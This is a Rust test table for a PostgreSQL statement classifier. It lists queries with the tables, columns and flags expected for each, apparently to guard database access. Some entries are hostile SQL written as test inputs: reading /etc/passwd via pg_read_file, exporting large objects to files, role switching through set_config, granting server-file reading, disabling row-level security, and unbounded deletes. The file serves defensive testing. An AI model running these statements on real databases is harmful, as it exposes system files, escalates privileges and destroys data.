//! The table: statement → expected facts (kind, tables read and written, output columns, flags,
//! and for some a label). Every field is asserted for every case; an empty list means "none".
//! Table names without a schema mean `public.`, columns `t.c` mean `public.t.c`.

use super::super::Kind::{self, *};
use super::{classifier, cols, one, sorted, tables};

struct Case {
    sql: &'static str,
    kind: Kind,
    read: &'static [&'static str],
    written: &'static [&'static str],
    out: &'static [&'static str],
    flags: &'static [&'static str],
    label: Option<&'static str>,
}

const D: Case = Case {
    sql: "",
    kind: Read,
    read: &[],
    written: &[],
    out: &[],
    flags: &[],
    label: None,
};

const CUSTOMERS_ALL: &[&str] = &[
    "customers.id",
    "customers.name",
    "customers.email",
    "customers.ssn",
    "customers.phone",
    "customers.created_at",
];

const ORDERS_ALL: &[&str] = &[
    "orders.id",
    "orders.customer_id",
    "orders.product_id",
    "orders.quantity",
    "orders.total",
    "orders.created_at",
];

const PRODUCTS_ALL: &[&str] = &["products.id", "products.name", "products.price"];

const CASES: &[Case] = &[
    // ── plain reads ──────────────────────────────────────────────────────────────────────
    Case { sql: "SELECT id, name FROM products", read: &["products"], out: &["products.id", "products.name"], label: Some("SELECT"), ..D },
    Case { sql: "SELECT * FROM customers", read: &["customers"], out: CUSTOMERS_ALL, ..D },
    Case { sql: "SELECT c.* FROM customers c", read: &["customers"], out: CUSTOMERS_ALL, ..D },
    Case { sql: "SELECT c FROM customers c", read: &["customers"], out: CUSTOMERS_ALL, ..D },
    Case { sql: "SELECT row_to_json(c) FROM customers c", read: &["customers"], out: CUSTOMERS_ALL, ..D },
    Case { sql: "SELECT to_jsonb(c.*) FROM customers AS c", read: &["customers"], out: CUSTOMERS_ALL, ..D },
    Case { sql: "SELECT json_agg(c) FROM customers c WHERE c.id < 10", read: &["customers"], out: CUSTOMERS_ALL, ..D },
    Case { sql: "SELECT json_build_object('who', c) FROM customers c", read: &["customers"], out: CUSTOMERS_ALL, ..D },
    Case { sql: "SELECT (c).email FROM customers c", read: &["customers"], out: CUSTOMERS_ALL, ..D },
    Case { sql: "SELECT email FROM customers WHERE id = 1", read: &["customers"], out: &["customers.email"], ..D },
    Case { sql: "SELECT count(*) FROM customers", read: &["customers"], ..D },
    Case { sql: "SELECT count(email) FROM customers", read: &["customers"], ..D },
    Case { sql: "SELECT count(*) FROM customers WHERE ssn LIKE '123%'", read: &["customers"], ..D },
    Case { sql: "SELECT id FROM customers WHERE ssn = '123-45-6789'", read: &["customers"], out: &["customers.id"], ..D },
    Case { sql: "SELECT upper(name) AS n, length(phone) FROM customers", read: &["customers"], out: &["customers.name", "customers.phone"], ..D },
    Case { sql: "SELECT o.id, c.email FROM orders o JOIN customers c ON c.id = o.customer_id", read: &["orders", "customers"], out: &["orders.id", "customers.email"], ..D },
    Case { sql: "SELECT * FROM orders o LEFT JOIN products p ON p.id = o.product_id", read: &["orders", "products"], out: &["orders.id", "orders.customer_id", "orders.product_id", "orders.quantity", "orders.total", "orders.created_at", "products.id", "products.name", "products.price"], ..D },
    Case { sql: "SELECT o.* FROM orders o JOIN customers c USING (id)", read: &["orders", "customers"], out: ORDERS_ALL, ..D },
    Case { sql: "SELECT p.name FROM products p WHERE p.id IN (SELECT product_id FROM orders)", read: &["products", "orders"], out: &["products.name"], ..D },
    Case { sql: "SELECT name FROM products WHERE EXISTS (SELECT 1 FROM customers WHERE ssn IS NULL)", read: &["products", "customers"], out: &["products.name"], ..D },
    Case { sql: "SELECT (SELECT email FROM customers LIMIT 1) AS e", read: &["customers"], out: &["customers.email"], ..D },
    Case { sql: "SELECT ARRAY(SELECT ssn FROM customers)", read: &["customers"], out: &["customers.ssn"], ..D },
    Case { sql: "SELECT email FROM customers UNION SELECT name FROM products", read: &["customers", "products"], out: &["customers.email", "products.name"], ..D },
    Case { sql: "SELECT id FROM products INTERSECT SELECT customer_id FROM orders EXCEPT SELECT id FROM customers", read: &["products", "orders", "customers"], out: &["products.id", "orders.customer_id", "customers.id"], ..D },
    Case { sql: "SELECT * FROM (SELECT email FROM customers) s", read: &["customers"], out: &["customers.email"], ..D },
    Case { sql: "SELECT s.e FROM (SELECT email AS e, name FROM customers) AS s", read: &["customers"], out: &["customers.email"], ..D },
    Case { sql: "SELECT x.a FROM (SELECT email, name FROM customers) AS x(a, b)", read: &["customers"], out: &["customers.email"], ..D },
    Case { sql: "SELECT * FROM customers c, LATERAL (SELECT total FROM orders o WHERE o.customer_id = c.id) t", read: &["customers", "orders"], out: &["customers.id", "customers.name", "customers.email", "customers.ssn", "customers.phone", "customers.created_at", "orders.total"], ..D },
    Case { sql: "SELECT name FROM customers ORDER BY ssn", read: &["customers"], out: &["customers.name"], ..D },
    Case { sql: "SELECT DISTINCT ON (email) name FROM customers", read: &["customers"], out: &["customers.name"], ..D },
    Case { sql: "SELECT id, count(*) FROM orders GROUP BY id HAVING sum(total) > 10", read: &["orders"], out: &["orders.id"], ..D },
    Case { sql: "SELECT id, row_number() OVER (PARTITION BY customer_id ORDER BY created_at) FROM orders", read: &["orders"], out: &["orders.id"], ..D },
    Case { sql: "SELECT * FROM products WHERE name ILIKE '%x%' ORDER BY price DESC LIMIT 10 OFFSET 5", read: &["products"], out: PRODUCTS_ALL, ..D },
    Case { sql: "SELECT id FROM customers FOR UPDATE", read: &["customers"], out: &["customers.id"], label: Some("SELECT FOR UPDATE/SHARE"), ..D },
    Case { sql: "SELECT CASE WHEN ssn IS NULL THEN 'none' ELSE 'some' END FROM customers", read: &["customers"], out: &["customers.ssn"], ..D },
    Case { sql: "SELECT coalesce(phone, email) FROM customers", read: &["customers"], out: &["customers.phone", "customers.email"], ..D },
    Case { sql: "SELECT email::text || '!' FROM customers", read: &["customers"], out: &["customers.email"], ..D },
    Case { sql: "VALUES (1, 'a'), (2, 'b')", label: Some("VALUES"), ..D },
    Case { sql: "SELECT 1", ..D },
    Case { sql: "SELECT now(), random(), pg_sleep(0)", ..D },
    Case { sql: "SELECT * FROM generate_series(1, 10) g", ..D },
    Case { sql: "SELECT * FROM unnest(ARRAY[1, 2]) WITH ORDINALITY AS u(a, b)", ..D },
    Case { sql: "SELECT e FROM customers c, unnest(ARRAY[c.email]) AS e", read: &["customers"], out: &["customers.email"], ..D },
    Case { sql: "SELECT * FROM json_to_recordset('[]') AS x(a int, b text)", ..D },
    Case { sql: "SELECT j.* FROM customers c, jsonb_each(to_jsonb(c)) j", read: &["customers"], out: CUSTOMERS_ALL, ..D },
    // ── names: quoting, case, schemas, the search_path ─────────────────────────────────────
    Case { sql: r#"SELECT * FROM "Customers""#, read: &["Customers"], out: &["Customers.id", "Customers.secret"], ..D },
    Case { sql: "SELECT * FROM Customers", read: &["customers"], out: CUSTOMERS_ALL, ..D },
    Case { sql: "select EMAIL from CUSTOMERS", read: &["customers"], out: &["customers.email"], ..D },
    Case { sql: "SELECT email FROM public.customers", read: &["customers"], out: &["customers.email"], ..D },
    Case { sql: r#"SELECT "email" FROM "public"."customers""#, read: &["customers"], out: &["customers.email"], ..D },
    Case { sql: "SELECT public.customers.email FROM public.customers", read: &["customers"], out: &["customers.email"], ..D },
    Case { sql: "SELECT customers.ssn FROM public.customers", read: &["customers"], out: &["customers.ssn"], ..D },
    Case { sql: "SELECT * FROM mydb.public.customers", read: &["customers"], out: CUSTOMERS_ALL, ..D },
    Case { sql: "SELECT * FROM app.customers", read: &["app.customers"], out: &["app.customers.id", "app.customers.nickname"], ..D },
    Case { sql: r#"SELECT "EMAIL" FROM customers"#, read: &["customers"], out: &["customers.EMAIL"], ..D },
    Case { sql: "SELECT * FROM brand_new", read: &["brand_new"], out: &["brand_new.*"], ..D },
    Case { sql: "SELECT x, y FROM brand_new", read: &["brand_new"], out: &["brand_new.x", "brand_new.y"], ..D },
    Case { sql: "SELECT b FROM brand_new b", read: &["brand_new"], out: &["brand_new.*", "brand_new.b"], ..D },
    Case { sql: "SELECT c.nickname FROM app.customers c JOIN customers p ON p.id = c.id", read: &["app.customers", "customers"], out: &["app.customers.nickname"], ..D },
    // ── views ──────────────────────────────────────────────────────────────────────────
    Case { sql: "SELECT * FROM customer_contacts", read: &["customer_contacts", "customers"], out: &["customers.name", "customers.email"], ..D },
    Case { sql: "SELECT email FROM customer_contacts WHERE name = 'x'", read: &["customer_contacts", "customers"], out: &["customers.email"], ..D },
    Case { sql: "SELECT cc FROM customer_contacts cc", read: &["customer_contacts", "customers"], out: &["customers.name", "customers.email"], ..D },
    Case { sql: "SELECT * FROM order_totals", read: &["order_totals", "orders"], out: &["orders.customer_id", "orders.total"], ..D },
    Case { sql: "SELECT * FROM contact_emails", read: &["contact_emails", "customers"], out: &["customers.email"], ..D },
    Case { sql: "SELECT t.total, c.email FROM order_totals t JOIN customer_contacts c ON true", read: &["order_totals", "orders", "customer_contacts", "customers"], out: &["orders.total", "customers.email"], ..D },
    // ── CTEs ───────────────────────────────────────────────────────────────────────────
    Case { sql: "WITH x AS (SELECT email FROM customers) SELECT * FROM x", read: &["customers"], out: &["customers.email"], ..D },
    Case { sql: "WITH customers AS (SELECT 1 AS id) SELECT * FROM customers", ..D },
    Case { sql: "WITH customers AS (SELECT id, ssn FROM public.customers) SELECT ssn FROM customers", read: &["customers"], out: &["customers.ssn"], ..D },
    Case { sql: "WITH products AS (SELECT email AS name FROM customers) SELECT name FROM products", read: &["customers"], out: &["customers.email"], ..D },
    Case { sql: "WITH x(a) AS (SELECT ssn FROM customers) SELECT a FROM x", read: &["customers"], out: &["customers.ssn"], ..D },
    Case { sql: "WITH a AS (SELECT * FROM customers), b AS (SELECT email FROM a) SELECT * FROM b", read: &["customers"], out: &["customers.email"], ..D },
    Case { sql: "WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t WHERE n < 5) SELECT n FROM t", ..D },
    Case { sql: "WITH RECURSIVE r AS (SELECT id, email FROM customers UNION ALL SELECT r.id, r.email FROM r WHERE r.id < 3) SELECT email FROM r", read: &["customers"], out: &["customers.email"], ..D },
    Case { sql: "WITH RECURSIVE r(a, b) AS (SELECT name, ssn FROM customers UNION ALL SELECT b, a FROM r) SELECT a FROM r", read: &["customers"], out: &["customers.name", "customers.ssn"], ..D },
    Case { sql: "WITH d AS (DELETE FROM orders WHERE id = 1 RETURNING *) SELECT * FROM d", kind: Write, written: &["orders"], out: ORDERS_ALL, flags: &["data_modifying_cte"], label: Some("SELECT (WITH DELETE)"), ..D },
    Case { sql: "WITH d AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM d", kind: Write, written: &["orders"], flags: &["data_modifying_cte", "unbounded_write"], ..D },
    Case { sql: "WITH u AS (UPDATE customers SET email = 'x' WHERE id = 1 RETURNING ssn) SELECT * FROM u", kind: Write, written: &["customers"], out: &["customers.ssn"], flags: &["data_modifying_cte"], ..D },
    Case { sql: "WITH i AS (INSERT INTO orders (customer_id) VALUES (1) RETURNING id) SELECT id FROM i", kind: Write, written: &["orders"], out: &["orders.id"], flags: &["data_modifying_cte"], ..D },
    Case { sql: "WITH x AS (SELECT id FROM customers) INSERT INTO orders (customer_id) SELECT id FROM x", kind: Write, read: &["customers"], written: &["orders"], label: Some("INSERT"), ..D },
    Case { sql: "WITH x AS (SELECT 1) SELECT * FROM products, (WITH y AS (SELECT ssn FROM customers) SELECT * FROM y) z", read: &["products", "customers"], out: &["products.id", "products.name", "products.price", "customers.ssn"], ..D },
    // ── writes ─────────────────────────────────────────────────────────────────────────
    Case { sql: "INSERT INTO products (name, price) VALUES ('x', 1)", kind: Write, written: &["products"], label: Some("INSERT"), ..D },
    Case { sql: "INSERT INTO orders SELECT * FROM orders", kind: Write, read: &["orders"], written: &["orders"], ..D },
    Case { sql: "INSERT INTO customers (name) VALUES ('a') RETURNING *", kind: Write, written: &["customers"], out: CUSTOMERS_ALL, ..D },
    Case { sql: "INSERT INTO customers AS c (name) VALUES ('a') RETURNING c.id", kind: Write, written: &["customers"], out: &["customers.id"], ..D },
    Case { sql: "INSERT INTO orders (id, quantity) VALUES (1, 2) ON CONFLICT (id) DO UPDATE SET quantity = EXCLUDED.quantity WHERE orders.quantity < 5", kind: Write, written: &["orders"], ..D },
    Case { sql: "INSERT INTO orders (id) VALUES (1) ON CONFLICT DO NOTHING", kind: Write, written: &["orders"], ..D },
    Case { sql: "INSERT INTO customer_contacts (name, email) VALUES ('a', 'b')", kind: Write, written: &["customer_contacts", "customers"], ..D },
    Case { sql: "UPDATE products SET price = price * 1.1 WHERE id = 3", kind: Write, written: &["products"], label: Some("UPDATE"), ..D },
    Case { sql: "UPDATE products SET price = 0", kind: Write, written: &["products"], flags: &["unbounded_write"], ..D },
    Case { sql: "UPDATE products SET price = 0 WHERE true", kind: Write, written: &["products"], flags: &["unbounded_write"], ..D },
    Case { sql: "UPDATE products SET price = 0 WHERE 1 = 1", kind: Write, written: &["products"], flags: &["unbounded_write"], ..D },
    Case { sql: "UPDATE products p SET price = 0 WHERE p.price IS NOT NULL OR p.price IS NULL", kind: Write, written: &["products"], ..D },
    Case { sql: "UPDATE customers SET ssn = NULL WHERE id = 1 RETURNING *", kind: Write, written: &["customers"], out: CUSTOMERS_ALL, ..D },
    Case { sql: "UPDATE orders o SET total = 0 FROM customers c WHERE c.id = o.customer_id RETURNING c.ssn", kind: Write, read: &["customers"], written: &["orders"], out: &["customers.ssn"], ..D },
    Case { sql: "UPDATE orders SET (quantity, total) = (SELECT 1, 2) WHERE id = 1", kind: Write, written: &["orders"], ..D },
    Case { sql: "DELETE FROM orders WHERE id = $1", kind: Write, written: &["orders"], label: Some("DELETE"), ..D },
    Case { sql: "DELETE FROM orders", kind: Write, written: &["orders"], flags: &["unbounded_write"], ..D },
    Case { sql: "DELETE FROM ONLY orders WHERE 'a' = 'a'", kind: Write, written: &["orders"], flags: &["unbounded_write"], ..D },
    Case { sql: "SELECT * FROM ONLY customers", read: &["customers"], out: CUSTOMERS_ALL, ..D },
    Case { sql: "UPDATE ONLY customers SET email = NULL RETURNING ssn", kind: Write, written: &["customers"], out: &["customers.ssn"], flags: &["unbounded_write"], ..D },
    Case { sql: r#"SELECT * FROM "only""#, read: &["only"], out: &["only.*"], ..D },
    Case { sql: "SELECT first_value(email) OVER (PARTITION BY ssn ORDER BY phone) FROM customers", read: &["customers"], out: &["customers.email"], ..D },
    Case { sql: "SELECT string_agg(name, ',') FILTER (WHERE ssn IS NOT NULL) FROM customers", read: &["customers"], out: &["customers.name"], ..D },
    Case { sql: "SELECT mode() WITHIN GROUP (ORDER BY email) FROM customers", read: &["customers"], out: &["customers.email"], ..D },
    Case { sql: "SELECT current_user, session_user", kind: Catalog, ..D },
    Case { sql: "DELETE FROM orders WHERE EXISTS (SELECT 1 FROM customers)", kind: Write, read: &["customers"], written: &["orders"], flags: &["unbounded_write"], ..D },
    Case { sql: "DELETE FROM orders o WHERE NOT EXISTS (SELECT 1 FROM customers c WHERE c.id = o.customer_id)", kind: Write, read: &["customers"], written: &["orders"], ..D },
    Case { sql: "DELETE FROM orders o USING customers c WHERE c.id = o.customer_id AND c.email = 'x' RETURNING c.email", kind: Write, read: &["customers"], written: &["orders"], out: &["customers.email"], ..D },
    Case { sql: "MERGE INTO orders o USING products p ON o.product_id = p.id WHEN MATCHED THEN UPDATE SET total = p.price WHEN NOT MATCHED THEN INSERT (product_id) VALUES (p.id)", kind: Write, read: &["products"], written: &["orders"], label: Some("MERGE"), ..D },
    Case { sql: "MERGE INTO orders o USING products p ON true WHEN MATCHED THEN DELETE", kind: Write, read: &["products"], written: &["orders"], flags: &["unbounded_write"], ..D },
    Case { sql: "TRUNCATE orders", kind: Write, written: &["orders"], flags: &["truncate"], label: Some("TRUNCATE"), ..D },
    Case { sql: "TRUNCATE TABLE ONLY customers, orders RESTART IDENTITY CASCADE", kind: Write, written: &["customers", "orders"], flags: &["truncate"], ..D },
    // ── DDL ───────────────────────────────────────────────────────────────────────────
    Case { sql: "CREATE TABLE t (id int)", kind: Ddl, written: &["t"], label: Some("CREATE TABLE"), ..D },
    Case { sql: "CREATE TABLE t AS SELECT * FROM customers", kind: Ddl, read: &["customers"], written: &["t"], flags: &["creates_table"], label: Some("CREATE TABLE AS"), ..D },
    Case { sql: "SELECT * INTO t FROM customers", kind: Ddl, read: &["customers"], written: &["t"], flags: &["creates_table"], label: Some("SELECT INTO"), ..D },
    Case { sql: "SELECT email INTO TEMP leak FROM customers", kind: Ddl, read: &["customers"], written: &["leak"], flags: &["creates_table"], ..D },
    Case { sql: "CREATE TABLE t2 (LIKE customers)", kind: Ddl, read: &["customers"], written: &["t2"], ..D },
    Case { sql: "DROP TABLE customers, orders", kind: Ddl, written: &["customers", "orders"], label: Some("DROP TABLE"), ..D },
    Case { sql: "DROP TABLE IF EXISTS app.customers CASCADE", kind: Ddl, written: &["app.customers"], ..D },
    Case { sql: "ALTER TABLE customers ADD COLUMN x int", kind: Ddl, written: &["customers"], label: Some("ALTER TABLE"), ..D },
    Case { sql: "ALTER TABLE customers DISABLE ROW LEVEL SECURITY", kind: Ddl, written: &["customers"], ..D },
    Case { sql: "ALTER TABLE customers OWNER TO bob", kind: Ddl, written: &["customers"], ..D },
    Case { sql: "CREATE INDEX ON customers (email)", kind: Ddl, written: &["customers"], label: Some("CREATE INDEX"), ..D },
    Case { sql: "CREATE UNIQUE INDEX CONCURRENTLY i ON orders (id)", kind: Ddl, written: &["orders"], ..D },
    Case { sql: "CREATE VIEW v AS SELECT ssn FROM customers", kind: Ddl, read: &["customers"], written: &["v"], label: Some("CREATE VIEW"), ..D },
    Case { sql: "CREATE MATERIALIZED VIEW mv AS SELECT ssn FROM customers", kind: Ddl, read: &["customers"], written: &["mv"], flags: &["creates_table"], label: Some("CREATE MATERIALIZED VIEW"), ..D },
    Case { sql: "REFRESH MATERIALIZED VIEW mv", kind: Ddl, label: Some("REFRESH MATERIALIZED VIEW"), ..D },
    Case { sql: "CREATE SCHEMA s", kind: Ddl, label: Some("CREATE SCHEMA"), ..D },
    Case { sql: "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$", kind: Ddl, label: Some("CREATE FUNCTION"), ..D },
    Case { sql: "CREATE OR REPLACE PROCEDURE p() LANGUAGE sql AS $$ DELETE FROM orders $$", kind: Ddl, label: Some("CREATE PROCEDURE"), ..D },
    Case { sql: "CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT 1; SELECT 2; END", kind: Ddl, label: Some("CREATE FUNCTION"), ..D },
    Case { sql: "COMMENT ON TABLE customers IS 'PII'", kind: Ddl, label: Some("COMMENT ON TABLE"), ..D },
    Case { sql: "CREATE EXTENSION dblink", kind: Ddl, label: Some("CREATE EXTENSION"), ..D },
    Case { sql: "DROP EXTENSION dblink", kind: Ddl, ..D },
    Case { sql: "CLUSTER customers", kind: Ddl, label: Some("CLUSTER"), ..D },
    Case { sql: "REINDEX TABLE customers", kind: Ddl, label: Some("REINDEX"), ..D },
    Case { sql: "CREATE POLICY p ON customers USING (true)", kind: Ddl, ..D },
    Case { sql: "CREATE SEQUENCE s", kind: Ddl, ..D },
    Case { sql: "CREATE TYPE mood AS ENUM ('sad', 'ok')", kind: Ddl, ..D },
    Case { sql: "IMPORT FOREIGN SCHEMA public FROM SERVER s INTO x", kind: Ddl, label: Some("IMPORT FOREIGN SCHEMA"), ..D },
    // ── roles and privileges ──────────────────────────────────────────────────────────
    Case { sql: "CREATE ROLE bob WITH LOGIN PASSWORD 'secret'", kind: Role, flags: &["has_secret"], label: Some("CREATE ROLE"), ..D },
    Case { sql: "ALTER ROLE bob WITH PASSWORD 'secret'", kind: Role, flags: &["has_secret"], label: Some("ALTER ROLE"), ..D },
    Case { sql: "ALTER USER bob WITH ENCRYPTED PASSWORD 'x' VALID UNTIL '2030-01-01'", kind: Role, flags: &["has_secret"], label: Some("ALTER USER"), ..D },
    Case { sql: "CREATE USER bob PASSWORD 'x'", kind: Role, flags: &["has_secret"], label: Some("CREATE USER"), ..D },
    Case { sql: "CREATE ROLE r PASSWORD NULL", kind: Role, ..D },
    Case { sql: "DROP ROLE bob", kind: Role, label: Some("DROP ROLE"), ..D },
    Case { sql: "DROP USER IF EXISTS bob", kind: Role, ..D },
    Case { sql: "GRANT SELECT ON customers TO bob", kind: Role, label: Some("GRANT"), ..D },
    Case { sql: "GRANT ALL ON ALL TABLES IN SCHEMA public TO bob", kind: Role, ..D },
    Case { sql: "GRANT admin TO bob", kind: Role, label: Some("GRANT"), ..D },
    Case { sql: "GRANT pg_read_server_files TO agent WITH ADMIN OPTION", kind: Role, ..D },
    Case { sql: "REVOKE admin FROM bob", kind: Role, label: Some("REVOKE"), ..D },
    Case { sql: "REVOKE ALL ON customers FROM PUBLIC", kind: Role, ..D },
    Case { sql: "ALTER DEFAULT PRIVILEGES IN SCHEMA public GRANT SELECT ON TABLES TO bob", kind: Role, label: Some("ALTER DEFAULT PRIVILEGES"), ..D },
    Case { sql: "SET ROLE admin", kind: Role, label: Some("SET ROLE"), ..D },
    Case { sql: "SET LOCAL ROLE admin", kind: Role, ..D },
    Case { sql: "SET role = 'admin'", kind: Role, ..D },
    Case { sql: "SET ROLE NONE", kind: Role, ..D },
    Case { sql: "SET SESSION AUTHORIZATION admin", kind: Role, label: Some("SET SESSION AUTHORIZATION"), ..D },
    Case { sql: "SET SESSION AUTHORIZATION DEFAULT", kind: Role, ..D },
    Case { sql: "RESET ROLE", kind: Role, ..D },
    Case { sql: "RESET SESSION AUTHORIZATION", kind: Role, ..D },
    Case { sql: "RESET ALL", kind: Role, ..D },
    Case { sql: "DISCARD ALL", kind: Role, ..D },
    Case { sql: "SET session_replication_role = replica", kind: Role, ..D },
    Case { sql: "SELECT set_config('role', 'admin', false)", kind: Role, flags: &["unsafe_function"], ..D },
    Case { sql: "SELECT pg_catalog.set_config('ROLE', 'admin', true)", kind: Role, flags: &["unsafe_function"], ..D },
    Case { sql: "SELECT set_config('session_authorization', 'postgres', false)", kind: Role, flags: &["unsafe_function"], ..D },
    Case { sql: "ALTER SYSTEM SET work_mem = '1GB'", kind: Role, label: Some("ALTER SYSTEM"), ..D },
    Case { sql: "ALTER SYSTEM RESET ALL", kind: Role, ..D },
    Case { sql: "REASSIGN OWNED BY bob TO alice", kind: Role, ..D },
    Case { sql: "DROP OWNED BY bob", kind: Role, ..D },
    Case { sql: "ALTER ROLE bob SET search_path = evil", kind: Role, ..D },
    Case { sql: "CREATE USER MAPPING FOR bob SERVER s OPTIONS (user 'bob', password 'secret')", kind: Role, flags: &["has_secret"], label: Some("CREATE USER MAPPING"), ..D },
    Case { sql: "SECURITY LABEL ON TABLE customers IS 'x'", kind: Role, ..D },
    // ── session, transactions, utilities ──────────────────────────────────────────────
    Case { sql: "SET statement_timeout = '5s'", kind: Session, label: Some("SET statement_timeout"), ..D },
    Case { sql: "SET LOCAL statement_timeout = 5000", kind: Session, ..D },
    Case { sql: r#"SET "statement_timeout" TO DEFAULT"#, kind: Session, ..D },
    Case { sql: "SET Statement_Timeout = 0", kind: Session, ..D },
    Case { sql: "SET TIME ZONE 'UTC'", kind: Session, ..D },
    Case { sql: "SET timezone = 'Europe/Paris'", kind: Session, ..D },
    Case { sql: "SET NAMES 'UTF8'", kind: Session, ..D },
    Case { sql: "SET application_name = 'psql'", kind: Session, ..D },
    Case { sql: "SET extra_float_digits = 3", kind: Session, ..D },
    Case { sql: "SET DateStyle = ISO", kind: Session, ..D },
    Case { sql: "RESET statement_timeout", kind: Session, label: Some("RESET statement_timeout"), ..D },
    Case { sql: "SELECT set_config('statement_timeout', '5s', false)", kind: Session, ..D },
    Case { sql: "SET search_path TO app, public", kind: Unknown, label: Some("SET search_path"), ..D },
    Case { sql: "SET work_mem = '1GB'", kind: Unknown, label: Some("SET work_mem"), ..D },
    Case { sql: "SET row_security = off", kind: Unknown, ..D },
    Case { sql: "SELECT set_config('search_path', '', false)", flags: &["unsafe_function"], ..D },
    Case { sql: "BEGIN", kind: Txn, label: Some("BEGIN"), ..D },
    Case { sql: "BEGIN ISOLATION LEVEL SERIALIZABLE READ ONLY DEFERRABLE", kind: Txn, ..D },
    Case { sql: "START TRANSACTION READ WRITE", kind: Txn, ..D },
    Case { sql: "COMMIT", kind: Txn, ..D },
    Case { sql: "END", kind: Txn, ..D },
    Case { sql: "ROLLBACK", kind: Txn, ..D },
    Case { sql: "ABORT", kind: Txn, ..D },
    Case { sql: "SAVEPOINT a", kind: Txn, ..D },
    Case { sql: "RELEASE SAVEPOINT a", kind: Txn, ..D },
    Case { sql: "ROLLBACK TO SAVEPOINT a", kind: Txn, ..D },
    Case { sql: "SET TRANSACTION ISOLATION LEVEL SERIALIZABLE", kind: Txn, ..D },
    Case { sql: "SET SESSION CHARACTERISTICS AS TRANSACTION READ ONLY", kind: Txn, ..D },
    Case { sql: "PREPARE TRANSACTION 'x'", kind: Unknown, label: Some("PREPARE TRANSACTION"), ..D },
    Case { sql: "COMMIT PREPARED 'x'", kind: Unknown, label: Some("COMMIT PREPARED"), ..D },
    Case { sql: "VACUUM customers", kind: Utility, read: &["customers"], label: Some("VACUUM"), ..D },
    Case { sql: "VACUUM (VERBOSE, ANALYZE) customers", kind: Utility, label: Some("VACUUM"), ..D },
    Case { sql: "VACUUM FULL customers", kind: Unknown, label: Some("VACUUM FULL"), ..D },
    Case { sql: "VACUUM (FULL, VERBOSE) customers", kind: Unknown, label: Some("VACUUM FULL"), ..D },
    Case { sql: "ANALYZE customers", kind: Utility, read: &["customers"], ..D },
    Case { sql: "CHECKPOINT", kind: Utility, ..D },
    Case { sql: "LOCK TABLE customers IN ACCESS EXCLUSIVE MODE", kind: Utility, read: &["customers"], label: Some("LOCK TABLE"), ..D },
    Case { sql: "LISTEN ch", kind: Utility, ..D },
    Case { sql: "NOTIFY ch, 'x'", kind: Utility, ..D },
    Case { sql: "UNLISTEN *", kind: Utility, ..D },
    Case { sql: "DISCARD PLANS", kind: Utility, ..D },
    Case { sql: "DEALLOCATE ALL", kind: Utility, ..D },
    Case { sql: "LOAD 'auto_explain'", kind: Unknown, ..D },
    Case { sql: "DO $$ BEGIN DELETE FROM orders; END $$", kind: Unknown, label: Some("DO block"), ..D },
    Case { sql: "DO LANGUAGE plpgsql $x$ BEGIN PERFORM 1; END $x$", kind: Unknown, label: Some("DO block"), ..D },
    Case { sql: "TABLE customers", kind: Unknown, label: Some("TABLE"), ..D },
    // ── catalog: what drivers and tools send ──────────────────────────────────────────
    Case { sql: "SELECT version()", kind: Catalog, ..D },
    Case { sql: "SELECT current_schema()", kind: Catalog, ..D },
    Case { sql: "SELECT pg_backend_pid()", kind: Catalog, ..D },
    Case { sql: "SELECT has_table_privilege('customers', 'SELECT')", kind: Catalog, ..D },
    Case { sql: "SHOW search_path", kind: Catalog, label: Some("SHOW search_path"), ..D },
    Case { sql: "SHOW ALL", kind: Catalog, ..D },
    Case { sql: "SHOW TRANSACTION ISOLATION LEVEL", kind: Catalog, ..D },
    Case { sql: "SELECT oid, typname FROM pg_type", kind: Catalog, read: &["pg_catalog.pg_type"], out: &["pg_catalog.pg_type.oid", "pg_catalog.pg_type.typname"], ..D },
    Case { sql: "SELECT t.oid, t.typname FROM pg_catalog.pg_type t JOIN pg_catalog.pg_namespace n ON n.oid = t.typnamespace WHERE n.nspname = 'public'", kind: Catalog, read: &["pg_catalog.pg_type", "pg_catalog.pg_namespace"], out: &["pg_catalog.pg_type.oid", "pg_catalog.pg_type.typname"], ..D },
    Case { sql: "SELECT * FROM information_schema.tables WHERE table_schema = 'public'", kind: Catalog, read: &["information_schema.tables"], out: &["information_schema.tables.table_schema", "information_schema.tables.table_name", "information_schema.tables.table_type"], ..D },
    Case { sql: "SELECT column_name, data_type FROM information_schema.columns WHERE table_name = 'customers'", kind: Catalog, read: &["information_schema.columns"], out: &["information_schema.columns.column_name", "information_schema.columns.data_type"], ..D },
    Case { sql: "SELECT name, setting FROM pg_settings", kind: Catalog, read: &["pg_catalog.pg_settings"], out: &["pg_catalog.pg_settings.name", "pg_catalog.pg_settings.setting"], ..D },
    Case { sql: "SELECT datname FROM pg_database", kind: Catalog, read: &["pg_catalog.pg_database"], out: &["pg_catalog.pg_database.datname"], ..D },
    Case { sql: "SELECT t.oid, t.typelem AS elemtype, t.typtype AS kind FROM pg_catalog.pg_type AS t WHERE t.oid = ANY($1::oid[])", kind: Catalog, read: &["pg_catalog.pg_type"], out: &["pg_catalog.pg_type.oid", "pg_catalog.pg_type.typelem", "pg_catalog.pg_type.typtype"], ..D },
    Case { sql: "SELECT c.relname FROM pg_class c JOIN customers cu ON true", read: &["pg_catalog.pg_class", "customers"], out: &["pg_catalog.pg_class.relname"], ..D },
    Case { sql: "SELECT most_common_vals FROM pg_stats WHERE tablename = 'customers' AND attname = 'ssn'", kind: Export, read: &["pg_catalog.pg_stats"], out: &["pg_catalog.pg_stats.most_common_vals"], ..D },
    Case { sql: "SELECT query FROM pg_catalog.pg_stat_activity", kind: Export, read: &["pg_catalog.pg_stat_activity"], out: &["pg_catalog.pg_stat_activity.query"], ..D },
    Case { sql: "SELECT * FROM pg_toast.pg_toast_16384", kind: Export, read: &["pg_toast.pg_toast_16384"], out: &["pg_toast.pg_toast_16384.*"], ..D },
    // ── functions ─────────────────────────────────────────────────────────────────────
    Case { sql: "SELECT nextval('orders_id_seq')", flags: &["unsafe_function"], ..D },
    Case { sql: "SELECT setval('orders_id_seq', 1)", flags: &["unsafe_function"], ..D },
    Case { sql: "SELECT pg_read_file('/etc/passwd')", flags: &["unsafe_function"], ..D },
    Case { sql: "SELECT pg_catalog.pg_read_binary_file('global/pg_control')", flags: &["unsafe_function"], ..D },
    Case { sql: "SELECT * FROM pg_ls_dir('.')", flags: &["unsafe_function"], ..D },
    Case { sql: "SELECT lo_export(1234, '/tmp/x')", flags: &["unsafe_function"], ..D },
